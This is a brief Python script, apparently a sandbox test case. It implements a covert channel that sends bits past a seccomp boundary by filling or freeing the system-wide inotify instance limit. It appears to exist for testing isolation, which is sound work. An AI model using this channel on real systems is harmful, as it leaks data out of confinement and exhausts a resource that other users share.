# attack: how many inotify instances all users together may have
# wall: seccomp: inotify

import ctypes
import os

libc = ctypes.CDLL(None)
held = []


def put(n, bit):
    while bit and (made := libc.inotify_init1(0)) >= 0:
        held.append(made)
    while not bit and held:
        os.close(held.pop())


def get(n):
    made = libc.inotify_init1(0)
    if made >= 0:
        os.close(made)
    return int(made < 0)
